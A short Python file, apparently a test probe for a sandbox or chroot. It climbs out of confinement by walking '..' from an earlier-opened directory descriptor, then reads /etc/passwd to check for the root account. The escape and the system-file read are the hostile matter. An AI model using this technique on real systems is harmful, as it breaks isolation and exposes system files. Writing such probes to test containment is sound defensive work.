# ruff: noqa
# tries: climbs out by a folder that was opened before

import os


def attack():
    fd = os.open("/", os.O_RDONLY)
    for _ in range(30):
        fd = os.open("..", os.O_RDONLY, dir_fd=fd)
    return "root" in open(os.open("etc/passwd", os.O_RDONLY, dir_fd=fd)).read()
